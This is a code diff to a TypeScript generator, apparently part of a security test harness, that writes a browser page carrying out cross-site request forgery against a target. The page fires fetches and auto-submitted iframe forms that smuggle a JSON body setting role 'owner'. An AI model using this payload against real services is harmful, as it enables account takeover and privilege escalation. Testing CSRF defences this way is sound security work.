@@ -35,10 +35,10 @@ function writeAttack(target: string, mutations: readonly Mutation[]): string {
     const target = ${JSON.stringify(target)};
     const mutations = ${JSON.stringify(mutations)};
     const body = JSON.stringify({ name: "stolen", email: "evil@example.com", role: "owner" });
-    async function submitIn({ enctype, sandbox }, path) {
+    async function submitIn(sandbox, path) {
       const frame = document.createElement("iframe");
-      if (sandbox !== undefined) frame.setAttribute("sandbox", sandbox);
-      frame.srcdoc = '<form method="post" enctype="' + enctype + '" action="' + target + path +
+      if (sandbox !== null) frame.setAttribute("sandbox", sandbox);
+      frame.srcdoc = '<form method="post" enctype="text/plain" action="' + target + path +
         '"><input name=\\'{"name":"stolen","x":"\\' value=\\'"}\\'></form><script>document.forms[0].submit()<' + '/script>';
       // First the form loads, then the response to it.
       let loads = 0;
@@ -53,13 +53,14 @@ function writeAttack(target: string, mutations: readonly Mutation[]): string {
     }
     // Few enough requests that the person's rate limit, which comes first, rejects none of them.
     async function attack() {
-      await Promise.all(mutations.map((mutation) => send("text/plain", "no-cors", mutation)));
-      await Promise.all(mutations.map((mutation) => send("application/json", "cors", mutation)));
+      const types = [["text/plain", "no-cors"], ["application/x-www-form-urlencoded", "no-cors"], ["application/json", "cors"]];
+      for (const [type, mode] of types) {
+        await Promise.all(mutations.map((mutation) => send(type, mode, mutation)));
+      }
       const posts = mutations.filter(({ method }) => method === "POST");
-      const form = { enctype: "application/x-www-form-urlencoded" };
-      await Promise.all(posts.map(({ path }) => submitIn(form, path)));
-      const sandboxed = { enctype: "text/plain", sandbox: "allow-forms allow-scripts" };
-      await Promise.all(posts.map(({ path }) => submitIn(sandboxed, path)));
+      for (const sandbox of [null, "allow-forms allow-scripts"]) {
+        await Promise.all(posts.map(({ path }) => submitIn(sandbox, path)));
+      }
       document.title = "Done";
     }
     attack();
